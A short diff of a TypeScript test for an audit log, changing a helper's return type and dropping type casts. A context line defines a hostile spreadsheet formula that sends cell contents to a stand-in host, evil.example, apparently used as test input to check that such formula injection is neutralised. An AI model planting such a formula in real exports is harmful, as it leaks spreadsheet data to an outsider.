@@ -8,9 +8,9 @@ import { apiFixture, type ApiFixture } from './fixture.ts';
 const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik")';
 
 /** The coded error a refusal carries, rendered in a language. */
-function text(error: unknown, language: 'da' | 'en'): string {
+function text(error: unknown, language: 'da' | 'en'): string | undefined {
   const coded = (error as { cause?: { coded?: { code: string; params: Record<string, string | number> } } }).cause?.coded;
-  return renderError(coded?.code as never, coded?.params as never, language);
+  return renderError(coded?.code, coded?.params, language);
 }
 
 describe.each(testEngines())('the audit log, readable, on $name', (engine) => {
